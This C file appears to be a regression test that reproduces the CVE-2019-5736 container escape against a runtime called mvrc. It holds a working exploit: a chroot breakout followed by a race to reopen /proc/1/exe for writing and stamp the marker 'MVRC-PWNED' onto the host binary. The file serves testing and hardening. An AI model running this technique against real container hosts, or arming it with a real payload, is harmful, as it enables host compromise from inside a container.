/* attack: CVE-2019-5736 against mvrc itself, the way issue 9 found it, on what is left of
 * mvrc in a container: run as COMMAND under --init, PID 1 is mvrc's init (issue 9's route
 * was a nested mvrc run from /proc/self/exe, which now leads to the sealed hop). It climbs
 * out of any chroot (CAP_SYS_CHROOT, as escape.c does), takes an O_PATH handle on
 * /proc/1/exe, says which file it holds ("handle DEV:INO" or "handle ERRNO"), then "ready",
 * and until it is killed (or 2 s pass) tries to open that file for writing through
 * /proc/self/fd and put its mark at offset 0: the moment mvrc is killed and PID 1's image
 * is unmapped, a host binary would no longer be busy. Static (gcc -static): the busybox
 * rootfs has no libc.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define CLIMB 64
#define MARK "MVRC-PWNED"
#define SPIN_NS (2LL * 1000 * 1000 * 1000)

static long long now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

int main(void)
{
	/* /tmp: writable whoever runs mvrc (as root, the staged rootfs is not root's own). */
	if (mkdir("/tmp/attack-dir", 0700) != 0 && errno != EEXIST)
		return perror("mkdir"), 1;
	if (chdir("/tmp") != 0 || chroot("attack-dir") != 0)
		return perror("chroot"), 1;
	for (int i = 0; i < CLIMB; i++)
		if (chdir("..") != 0)
			return perror("chdir"), 1;
	if (chroot(".") != 0)
		return perror("chroot ."), 1;

	int fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
	struct stat st;
	if (fd < 0)
		printf("handle %s\n", strerrorname_np(errno));
	else if (fstat(fd, &st) == 0)
		printf("handle %llu:%llu\n", (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
	else
		printf("handle fstat %s\n", strerrorname_np(errno));
	printf("ready\n");
	fflush(stdout);
	if (fd < 0)
		return 0;

	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (long long end = now() + SPIN_NS; now() < end;) {
		int w = open(path, O_WRONLY | O_CLOEXEC);
		if (w < 0)
			continue;
		if (pwrite(w, MARK, strlen(MARK), 0) == (ssize_t)strlen(MARK)) {
			printf("wrote\n");
			return 0;
		}
		close(w);
	}
	return 0;
}
